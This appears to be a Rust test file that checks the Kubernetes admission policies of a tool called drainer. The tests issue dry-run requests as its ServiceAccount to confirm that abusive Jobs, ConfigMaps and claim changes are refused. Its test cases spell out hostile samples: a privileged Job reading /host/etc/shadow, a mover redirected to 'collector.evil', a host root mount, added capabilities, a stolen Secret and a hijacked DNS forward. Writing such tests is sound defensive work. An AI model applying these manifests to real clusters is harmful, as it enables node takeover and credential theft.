//! On kube-env: drainer's own rights cannot be turned against the cluster. The
//! admission policies of `deploy/base/admission.yaml` are installed with drainer's
//! ServiceAccount, its RBAC and the ConfigMap `drainer-movers` (as `deploy/overlays/kube-env`
//! renders them, without the Deployment), and each test acts as whoever holds drainer's token
//! would: impersonating `system:serviceaccount:drainer-system:drainer`, with server-side dry
//! runs (admission runs, nothing is stored). The API server must refuse, naming the policy,
//! a privileged or `hostNetwork` Job in `kube-system` and every way a mover Job could be bent
//! (a hostPath, a capability, another image, URL or ServiceAccount, the claim writable); a
//! ConfigMap that is not a hold (created in `kube-system`, or another one deleted); a claim
//! owner that is not drainer's (a ConfigMap that does not exist, a guard to another namespace
//! or UID, an owner as controller); an annotation, label or spec change that is not
//! drainer's; the delete of a claim drainer did not mark `drainer.io/reclaim`. It must accept every mover Job drainer builds (`mover_job`, for each identity a
//! namespace's Pod Security level leads to), a hold, and drainer's own claim changes: a refusal
//! that RBAC would have made too would prove nothing, so the accepted twin of each refused
//! request shows that only the policy stands in the way.
//!
//! Installing shares drainer-system and the cluster-wide objects with `deploy`'s tests, so these
//! take its lock.

use crate::support::cluster::TestNamespace;
use crate::support::install::{LOCK, deploy, ensure_namespace, kubectl};
use crate::support::kube::{KubeEnv, admin_config, client, with_timeout};
use anyhow::{Context, Result, bail, ensure};
use drainer_core::ledger::Drain;
use drainer_core::lifecycle::DrainState;
use drainer_kube::mover_jobs::{Kind, MoverSecurity, MoverSpec, mover_job};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{ConfigMap, Namespace, PersistentVolumeClaim};
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use kube::{Api, Client};
use serde_json::{Value, json};
use std::time::Duration;

/// drainer's ServiceAccount, as the API server names it.
const DRAINER: &str = "system:serviceaccount:drainer-system:drainer";
/// The kinds of `deploy/overlays/kube-env` these tests install: all but the server itself.
const INSTALLED_KINDS: [&str; 9] = [
    "Namespace",
    "ServiceAccount",
    "ClusterRole",
    "ClusterRoleBinding",
    "Role",
    "RoleBinding",
    "ConfigMap",
    "ValidatingAdmissionPolicy",
    "ValidatingAdmissionPolicyBinding",
];
/// The mover settings of the kube-env overlay (its ConfigMap drainer-movers).
const MOVER_IMAGE: &str = "drainer:kube-env";
const SERVICE_URL: &str = "https://drainer.drainer-system.svc:8080";
/// Bound of one test.
const LIMIT: Duration = Duration::from_secs(180);

/// The objects of the kube-env overlay but its Deployment, Service, claim and Secret, as YAML.
async fn policies_and_rights(env: &KubeEnv) -> Result<String> {
    let rendered = kubectl(env, &["kustomize", &deploy("overlays/kube-env")]).await?;
    let kept: Vec<&str> = rendered
        .split("\n---\n")
        .filter(|doc| {
            INSTALLED_KINDS
                .iter()
                .any(|k| doc.lines().any(|l| l == format!("kind: {k}")))
        })
        .filter(|doc| !doc.contains("name: drainer-store"))
        .collect();
    ensure!(
        kept.iter()
            .filter(|d| d.contains("kind: ValidatingAdmissionPolicy\n"))
            .count()
            == 3,
        "the overlay renders three admission policies:\n{rendered}"
    );
    Ok(kept.join("\n---\n"))
}

/// Installs drainer's ServiceAccount, rights, policies and mover settings; runs `body` with a
/// client that is drainer; removes them again (drainer-system too: `deploy`'s tests, which
/// hold the same lock, install it anew).
async fn with_policies<F, Fut>(body: F) -> Result<()>
where
    F: FnOnce(Client) -> Fut,
    Fut: std::future::Future<Output = Result<()>>,
{
    let _serial = LOCK.lock().await;
    let env = KubeEnv::load()?;
    let admin = client().await?;
    let manifests = tempfile::NamedTempFile::new()?;
    std::fs::write(manifests.path(), policies_and_rights(&env).await?)?;
    let file = manifests.path().display().to_string();
    ensure_namespace(&admin, "drainer-system").await?;
    kubectl(&env, &["apply", "-f", &file]).await?;
    let drainer = as_drainer().await?;
    let result = async {
        wait_policies_active(&drainer).await?;
        with_timeout(LIMIT, body(drainer)).await
    }
    .await;
    kubectl(
        &env,
        &["delete", "-f", &file, "--ignore-not-found", "--wait=false"],
    )
    .await?;
    result
}

/// A client that is drainer's ServiceAccount (impersonated by kube-env's admin).
async fn as_drainer() -> Result<Client> {
    let mut config = admin_config().await?;
    config.auth_info.impersonate = Some(DRAINER.to_owned());
    config.auth_info.impersonate_groups = Some(vec![
        "system:serviceaccounts".to_owned(),
        "system:serviceaccounts:drainer-system".to_owned(),
        "system:authenticated".to_owned(),
    ]);
    Ok(Client::try_from(config)?)
}

/// Waits until the API server enforces the policies (it loads new ones within seconds): a
/// ConfigMap that is no hold is refused by the policy drainer-holds.
async fn wait_policies_active(drainer: &Client) -> Result<()> {
    let maps: Api<ConfigMap> = Api::namespaced(drainer.clone(), "default");
    let probe = config_map("not-a-hold", json!({}));
    crate::support::kube::eventually(
        "the admission policies enforced",
        Duration::from_secs(60),
        || async {
            match maps.create(&dry_run(), &probe).await {
                Err(e) if denied_by(&e, "drainer-holds") => Ok(()),
                other => bail!("not yet: {other:?}"),
            }
        },
    )
    .await
}

fn dry_run() -> PostParams {
    PostParams {
        dry_run: true,
        ..PostParams::default()
    }
}

fn patch_dry_run() -> PatchParams {
    PatchParams::default().dry_run()
}

/// Whether `error` is a refusal by the admission policy `policy`.
fn denied_by(error: &kube::Error, policy: &str) -> bool {
    matches!(error, kube::Error::Api(status)
        if status.message.contains(&format!("ValidatingAdmissionPolicy '{policy}'")))
}

/// Checks that `result` is a refusal by `policy`; `what` names the attempt.
fn refused<T: std::fmt::Debug>(result: kube::Result<T>, policy: &str, what: &str) -> Result<()> {
    match result {
        Err(e) if denied_by(&e, policy) => {
            eprintln!("admission: refused, as it must be: {what}");
            Ok(())
        }
        Err(e) => bail!("{what}: refused, but not by the policy {policy}: {e}"),
        Ok(found) => bail!("{what}: ACCEPTED as drainer's ServiceAccount: {found:?}"),
    }
}

/// Checks that `result` is an acceptance; `what` names the attempt.
fn accepted<T>(result: kube::Result<T>, what: &str) -> Result<()> {
    result
        .map(|_| eprintln!("admission: accepted, as it must be: {what}"))
        .with_context(|| format!("{what}: refused as drainer's ServiceAccount"))
}

fn config_map(name: &str, labels: Value) -> ConfigMap {
    serde_json::from_value(json!({
        "metadata": {"name": name, "labels": labels},
        "data": {"drain": "d-1", "claim": "data-web-1", "why": "a test"}
    }))
    .expect("a ConfigMap")
}

/// A drain of claim `pvc` in `namespace`.
fn drain(namespace: &str, pvc: &str) -> Drain {
    Drain {
        id: "d-20261206180000000-0a1b2c3d".into(),
        namespace: namespace.into(),
        pvc: pvc.into(),
        pod: Some("web-1".into()),
        reason: "handoff".into(),
        state: DrainState::Copying,
        attempts: 1,
        max_attempts: 5,
        not_before_ms: 0,
        lease_owner: None,
        lease_expires_ms: None,
        snapshot: None,
        last_error: None,
        created_ms: 0,
        updated_ms: 0,
        finished_ms: None,
        facts: drainer_core::ledger::Facts::default()
            .with(drainer_kube::facts::NODE, Some("kube-env-node-1")),
    }
}

/// The mover settings drainer runs with in the kube-env overlay (its ConfigMap's values).
fn spec(extra: &[&str]) -> MoverSpec {
    use clap::Parser;
    let argv = [
        "drainer",
        "serve",
        "--kubernetes",
        "--mover-image",
        MOVER_IMAGE,
    ]
    .into_iter()
    .chain(extra.iter().copied());
    match drainer::Config::try_parse_from(argv) {
        Ok(drainer::Config {
            command: drainer::Command::Serve(serve),
            ..
        }) => MoverSpec::new(&serve.kube.movers, &serve.kube.audience).expect("mover flags"),
        other => panic!("{extra:?} do not parse: {other:?}"),
    }
}

/// Every identity a mover gets: privileged, baseline, restricted (the application's, with
/// groups) and nobody.
fn identities() -> [MoverSecurity; 4] {
    let identity = |kind, user, group, groups: &[i64]| MoverSecurity {
        kind,
        user,
        group,
        groups: groups.to_vec(),
        why: "a test".into(),
    };
    [
        identity(Kind::ReadAll, 0, Some(0), &[]),
        identity(Kind::DacOverride, 0, Some(0), &[]),
        identity(Kind::App, 1000, None, &[2000, 3000]),
        identity(Kind::Nobody, 65534, Some(65534), &[]),
    ]
}

/// The mover Job drainer builds for claim `pvc` in `namespace`, as JSON.
fn mover(namespace: &str, pvc: &str, security: &MoverSecurity, flags: &[&str]) -> Value {
    let claim: PersistentVolumeClaim = serde_json::from_value(json!({
        "metadata": {"name": pvc, "namespace": namespace},
        "spec": {"accessModes": ["ReadWriteOnce"]}
    }))
    .expect("a claim");
    let job = mover_job(
        &drain(namespace, pvc),
        1,
        &claim,
        None,
        Some("kube-env-node-1"),
        &spec(flags),
        security,
        SERVICE_URL,
    );
    serde_json::to_value(job).expect("JSON")
}

/// Creates `job` (JSON) in `namespace` as drainer, in a dry run.
async fn create_job(drainer: &Client, namespace: &str, job: &Value) -> kube::Result<Job> {
    let job: Job = serde_json::from_value(job.clone()).expect("a Job");
    Api::<Job>::namespaced(drainer.clone(), namespace)
        .create(&dry_run(), &job)
        .await
}

/// Every mover Job drainer builds is admitted, whatever the namespace's Pod Security level
/// made of its identity, with the flags that change its shape.
#[tokio::test]
async fn every_mover_drainer_builds_is_admitted() -> Result<()> {
    with_policies(|drainer| async move {
        let namespace = TestNamespace::new("admission-movers").await?;
        let ns = &namespace.ns;
        let result = async {
            // With TLS, a mover gets the CA bundle in its environment (DRAINER_CACERT_PEM).
            let dir = tempfile::tempdir()?;
            let ca = crate::support::tls::Ca::new("admission CA").write(dir.path(), "ca.crt");
            let ca = ca.display().to_string();
            let flag_sets: [&[&str]; 3] = [
                &[],
                &["--mover-cacert", &ca],
                &[
                    "--mover-node-selector",
                    "kubernetes.io/os=linux",
                    "--mover-tolerations",
                    r#"[{"key":"dedicated","operator":"Equal","value":"backup","effect":"NoSchedule"}]"#,
                    "--mover-cpu",
                    "250m",
                ],
            ];
            for security in identities() {
                for flags in flag_sets {
                    let job = mover(ns, "data-web-1", &security, flags);
                    accepted(
                        create_job(&drainer, ns, &job).await,
                        &format!("the mover of {:?} with {flags:?}", security.kind),
                    )?;
                }
            }
            Ok(())
        }
        .await;
        namespace.finish().await?;
        result
    })
    .await
}

/// Jobs that are not movers, or movers bent one way, are refused, in `kube-system` as in a
/// user's namespace; the mover itself is admitted in both (so RBAC is not what refuses).
#[tokio::test]
async fn drainer_creates_no_job_but_a_mover() -> Result<()> {
    with_policies(|drainer| async move {
        let privileged = json!({
            "metadata": {"name": "own-the-node", "labels": {
                "app.kubernetes.io/managed-by": "drainer", "drainer.io/drain": "d-1"}},
            "spec": {"template": {"metadata": {"labels": {"app.kubernetes.io/managed-by": "drainer"}},
              "spec": {"restartPolicy": "Never", "containers": [{"name": "shell", "image": "busybox",
                "command": ["sh", "-c", "cat /host/etc/shadow"],
                "securityContext": {"privileged": true}}]}}}
        });
        let mut host_network = privileged.clone();
        host_network["spec"]["template"]["spec"]["hostNetwork"] = json!(true);
        host_network["spec"]["template"]["spec"]["containers"][0]["securityContext"] = json!({});
        for (what, job) in [("a privileged Job", &privileged), ("a hostNetwork Job", &host_network)] {
            refused(
                create_job(&drainer, "kube-system", job).await,
                "drainer-mover-jobs",
                &format!("{what} in kube-system"),
            )?;
        }
        let identities = identities();
        let security = &identities[0];
        for ns in ["kube-system", "default"] {
            let job = mover(ns, "data-web-1", security, &[]);
            accepted(
                create_job(&drainer, ns, &job).await,
                &format!("the mover in {ns}"),
            )?;
            for (what, bend) in bends() {
                let mut bent = job.clone();
                bend(&mut bent);
                refused(
                    create_job(&drainer, ns, &bent).await,
                    "drainer-mover-jobs",
                    &format!("the mover in {ns}, {what}"),
                )?;
            }
        }
        Ok(())
    })
    .await
}

/// A change to a mover Job's JSON.
type Bend = Box<dyn Fn(&mut Value)>;

/// `change` as a [`Bend`].
fn bend(change: impl Fn(&mut Value) + 'static) -> Bend {
    Box::new(change)
}

/// Ways to bend a mover Job, each alone.
fn bends() -> Vec<(&'static str, Bend)> {
    fn pod(job: &mut Value) -> &mut Value {
        &mut job["spec"]["template"]["spec"]
    }
    fn container(job: &mut Value) -> &mut Value {
        &mut pod(job)["containers"][0]
    }
    vec![
        (
            "mounting the host's root",
            bend(|j: &mut Value| {
                pod(j)["volumes"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "host", "hostPath": {"path": "/"}}));
            }),
        ),
        (
            "the claim writable",
            bend(|j: &mut Value| {
                pod(j)["volumes"][0]["persistentVolumeClaim"]["readOnly"] = json!(false);
                container(j)["volumeMounts"][0]["readOnly"] = json!(false);
            }),
        ),
        (
            "with CAP_SYS_ADMIN",
            bend(|j: &mut Value| {
                container(j)["securityContext"]["capabilities"]["add"] = json!(["SYS_ADMIN"]);
            }),
        ),
        (
            "with both DAC capabilities",
            bend(|j: &mut Value| {
                container(j)["securityContext"]["capabilities"]["add"] =
                    json!(["DAC_READ_SEARCH", "DAC_OVERRIDE"]);
            }),
        ),
        (
            "privileged",
            bend(|j: &mut Value| {
                container(j)["securityContext"]["privileged"] = json!(true);
                container(j)["securityContext"]["allowPrivilegeEscalation"] = json!(true);
            }),
        ),
        (
            "on the host's PID namespace",
            bend(|j: &mut Value| pod(j)["hostPID"] = json!(true)),
        ),
        (
            "another image",
            bend(|j: &mut Value| container(j)["image"] = json!("busybox")),
        ),
        (
            "a shell instead of drainer",
            bend(|j: &mut Value| container(j)["command"] = json!(["sh", "-c", "id"])),
        ),
        (
            "streaming to another server",
            bend(|j: &mut Value| container(j)["args"][2] = json!("http://collector.evil:80")),
        ),
        (
            "as another ServiceAccount",
            bend(|j: &mut Value| pod(j)["serviceAccountName"] = json!("kube-proxy")),
        ),
        (
            "with its ServiceAccount's API token",
            bend(|j: &mut Value| pod(j)["automountServiceAccountToken"] = json!(true)),
        ),
        (
            "with a token for the API server",
            bend(|j: &mut Value| {
                pod(j)["volumes"][1]["projected"]["sources"][0]["serviceAccountToken"]["audience"] =
                    json!("https://kubernetes.default.svc.cluster.local");
            }),
        ),
        (
            "with a Secret in its environment",
            bend(|j: &mut Value| {
                container(j)["env"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "STOLEN",
                    "valueFrom": {"secretKeyRef": {"name": "any", "key": "token"}}}));
            }),
        ),
        (
            "with an init container",
            bend(|j: &mut Value| {
                pod(j)["initContainers"] = json!([{"name": "first", "image": "busybox"}]);
            }),
        ),
        (
            "seccomp unconfined",
            bend(|j: &mut Value| {
                pod(j)["securityContext"]["seccompProfile"] = json!({"type": "Unconfined"});
            }),
        ),
        (
            "not labelled as drainer's",
            bend(|j: &mut Value| {
                j["metadata"]["labels"] = json!({"app": "anything"});
            }),
        ),
    ]
}

/// drainer creates and deletes holds and no other ConfigMap, and changes none.
#[tokio::test]
async fn drainer_touches_no_config_map_but_its_holds() -> Result<()> {
    with_policies(|drainer| async move {
        let namespace = TestNamespace::new("admission-holds").await?;
        let ns = &namespace.ns;
        let result = async {
            let hold_labels =
                json!({"app.kubernetes.io/managed-by": "drainer", "drainer.io/drain": "d-1"});
            let hold = config_map("drainer-hold-d-1", hold_labels);
            for place in [ns.as_str(), "kube-system"] {
                let maps: Api<ConfigMap> = Api::namespaced(drainer.clone(), place);
                accepted(
                    maps.create(&dry_run(), &hold).await,
                    &format!("a hold in {place}"),
                )?;
            }
            let system: Api<ConfigMap> = Api::namespaced(drainer.clone(), "kube-system");
            let coredns = config_map("coredns-custom", json!({}));
            refused(
                system.create(&dry_run(), &coredns).await,
                "drainer-holds",
                "a ConfigMap coredns-custom in kube-system",
            )?;
            let disguised = config_map("drainer-hold-d-1", json!({}));
            refused(
                system.create(&dry_run(), &disguised).await,
                "drainer-holds",
                "a ConfigMap named as a hold, without drainer's labels",
            )?;
            let mut stuffed = hold.clone();
            stuffed
                .data
                .get_or_insert_default()
                .insert("Corefile".into(), ".:53 { forward . 6.6.6.6 }".into());
            refused(
                system.create(&dry_run(), &stuffed).await,
                "drainer-holds",
                "a hold with other data",
            )?;
            // Real ConfigMaps, made by the namespace's owner: the application's, and a hold.
            let owned: Api<ConfigMap> = namespace.api();
            owned
                .create(
                    &PostParams::default(),
                    &config_map("app-settings", json!({})),
                )
                .await?;
            owned.create(&PostParams::default(), &hold).await?;
            let maps: Api<ConfigMap> = Api::namespaced(drainer.clone(), ns);
            let delete = DeleteParams {
                dry_run: true,
                ..DeleteParams::default()
            };
            accepted(
                maps.delete("drainer-hold-d-1", &delete).await,
                "deleting a hold",
            )?;
            refused(
                maps.delete("app-settings", &delete).await,
                "drainer-holds",
                "deleting the application's ConfigMap",
            )?;
            // RBAC grants no change of a ConfigMap, and the policy would refuse it too.
            let change = Patch::Merge(json!({"data": {"why": "mine now"}}));
            for name in ["app-settings", "drainer-hold-d-1"] {
                match maps.patch(name, &patch_dry_run(), &change).await {
                    Err(kube::Error::Api(s)) if s.code == 403 => {
                        eprintln!("admission: refused, as it must be: a change to ConfigMap {name}")
                    }
                    other => bail!("a change to ConfigMap {name} as drainer: {other:?}"),
                }
            }
            Ok(())
        }
        .await;
        namespace.finish().await?;
        result
    })
    .await
}

/// drainer deletes only the claims it marked `drainer.io/reclaim` (reclaim.rs); RBAC grants
/// it the delete of every claim, so the unmarked claim's refusal is the policy's, and the
/// marked twin's acceptance shows nothing else stands in the way.
#[tokio::test]
async fn drainer_deletes_only_the_claims_it_marked_for_reclaim() -> Result<()> {
    with_policies(|drainer| async move {
        let namespace = TestNamespace::new("admission-reclaim").await?;
        let result = claim_deletes(&namespace, &drainer).await;
        namespace.finish().await?;
        result
    })
    .await
}

async fn claim_deletes(namespace: &TestNamespace, drainer: &Client) -> Result<()> {
    let claim = |name: &str, annotations: Value| -> Result<PersistentVolumeClaim> {
        Ok(serde_json::from_value(json!({
            "metadata": {"name": name, "annotations": annotations},
            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
        }))?)
    };
    let as_admin: Api<PersistentVolumeClaim> = namespace.api();
    let unmarked = claim("data-web-1", json!({"drainer.io/last-snapshot": "s-1"}))?;
    let marked = claim("data-web-2", json!({"drainer.io/reclaim": "s-2"}))?;
    for c in [&unmarked, &marked] {
        as_admin.create(&PostParams::default(), c).await?;
    }
    let claims: Api<PersistentVolumeClaim> = Api::namespaced(drainer.clone(), &namespace.ns);
    let dry = DeleteParams {
        dry_run: true,
        ..DeleteParams::default()
    };
    refused(
        claims.delete("data-web-1", &dry).await,
        "drainer-claims",
        "the delete of a claim drainer did not mark drainer.io/reclaim",
    )?;
    accepted(
        claims.delete("data-web-2", &dry).await,
        "the delete of a claim drainer marked drainer.io/reclaim",
    )?;
    ensure!(
        as_admin.get_opt("data-web-2").await?.is_some(),
        "a dry run deletes nothing"
    );
    Ok(())
}

/// drainer changes a claim only by its holds and guards and its own annotations.
#[tokio::test]
async fn drainer_changes_claims_only_by_its_owners_and_annotations() -> Result<()> {
    with_policies(|drainer| async move {
        let namespace = TestNamespace::new("admission-claims").await?;
        let result = claim_changes(&namespace, &drainer).await;
        namespace.finish().await?;
        result
    })
    .await
}

async fn claim_changes(namespace: &TestNamespace, drainer: &Client) -> Result<()> {
    let (admin, ns) = (&namespace.client, namespace.ns.as_str());
    // The application's claim, owned by one of its objects, labelled and annotated by it.
    let owner = namespace
        .api::<ConfigMap>()
        .create(&PostParams::default(), &config_map("app-owner", json!({})))
        .await?;
    let app_owner = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "app-owner",
        "uid": owner.metadata.uid});
    let claim: PersistentVolumeClaim = serde_json::from_value(json!({
        "metadata": {"name": "data-web-1", "labels": {"app": "web"},
            "annotations": {"example.com/backup": "nightly"}, "ownerReferences": [app_owner]},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
    }))?;
    namespace
        .api::<PersistentVolumeClaim>()
        .create(&PostParams::default(), &claim)
        .await?;
    let ns_uid = Api::<Namespace>::all(admin.clone())
        .get(ns)
        .await?
        .metadata
        .uid
        .context("a namespace UID")?;
    let system_uid = Api::<Namespace>::all(admin.clone())
        .get("kube-system")
        .await?
        .metadata
        .uid;
    let claims: Api<PersistentVolumeClaim> = Api::namespaced(drainer.clone(), ns);
    let owners = |extra: Value| -> Patch<Value> {
        Patch::Merge(json!({"metadata": {"ownerReferences": [app_owner.clone(), extra]}}))
    };
    let hold = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "drainer-hold-d-1",
        "uid": "5b0e2c4e-0000-4000-8000-000000000001"});
    let guard = json!({"apiVersion": "v1", "kind": "Namespace", "name": ns, "uid": ns_uid});
    let dry = patch_dry_run();
    // What drainer does: a hold (strategic merge, as hold.rs), a guard with its annotation
    // (as guard.rs), its last snapshot's annotations (as events.rs), and taking them off.
    accepted(
        claims
            .patch(
                "data-web-1",
                &dry,
                &Patch::Strategic(json!({"metadata": {"ownerReferences": [hold.clone()]}})),
            )
            .await,
        "a hold added to a claim",
    )?;
    accepted(
        claims
            .patch(
                "data-web-1",
                &dry,
                &Patch::Merge(
                    json!({"metadata": {"ownerReferences": [app_owner.clone(), guard],
                    "annotations": {"drainer.io/guard": "whenScaled=Delete,whenDeleted=Retain"}}}),
                ),
            )
            .await,
        "a guard added to a claim",
    )?;
    accepted(
        claims
            .patch(
                "data-web-1",
                &dry,
                &Patch::Merge(json!({"metadata": {"annotations": {
                    "drainer.io/last-snapshot": "s-1", "drainer.io/last-snapshot-time": "2026-12-06T18:00:00Z"}}})),
            )
            .await,
        "the last snapshot's annotations",
    )?;
    // What drainer does not do.
    let ghost = json!({"apiVersion": "v1", "kind": "ConfigMap", "name": "ghost",
        "uid": "5b0e2c4e-0000-4000-8000-000000000002"});
    let elsewhere = json!({"apiVersion": "v1", "kind": "Namespace", "name": "kube-system",
        "uid": system_uid});
    let stale_guard = json!({"apiVersion": "v1", "kind": "Namespace", "name": ns,
        "uid": "5b0e2c4e-0000-4000-8000-000000000003"});
    let mut controlling_hold = hold.clone();
    controlling_hold["controller"] = json!(true);
    let refusals: Vec<(&str, Patch<Value>)> = vec![
        (
            "an owner reference to a ConfigMap that does not exist",
            owners(ghost),
        ),
        ("a guard to another namespace", owners(elsewhere)),
        ("a hold as the claim's controller", owners(controlling_hold)),
        (
            "the application's owner taken off",
            Patch::Merge(json!({"metadata": {"ownerReferences": [hold]}})),
        ),
        (
            "an annotation that is not drainer's",
            Patch::Merge(json!({"metadata": {"annotations": {"example.com/owner": "mallory"}}})),
        ),
        (
            "the application's annotation taken off",
            Patch::Merge(json!({"metadata": {"annotations": {"example.com/backup": null}}})),
        ),
        (
            "the users' opt-out drainer.io/drain",
            Patch::Merge(json!({"metadata": {"annotations": {"drainer.io/drain": "false"}}})),
        ),
        (
            "a label changed",
            Patch::Merge(json!({"metadata": {"labels": {"app": "other"}}})),
        ),
        (
            "a finalizer",
            Patch::Merge(json!({"metadata": {"finalizers": ["example.com/keep"]}})),
        ),
    ];
    // A limit, not a wish: the policy cannot check a guard's UID (the API server's CEL type
    // of namespaceObject declares `UID`, the object has `uid`: a policy that reads either does
    // not compile or fails every request). README, "What drainer can and cannot do".
    accepted(
        claims.patch("data-web-1", &dry, &owners(stale_guard)).await,
        "a guard to the claim's namespace by name with another UID (a known limit)",
    )?;
    for (what, patch) in refusals {
        refused(
            claims.patch("data-web-1", &dry, &patch).await,
            "drainer-claims",
            what,
        )?;
    }
    Ok(())
}
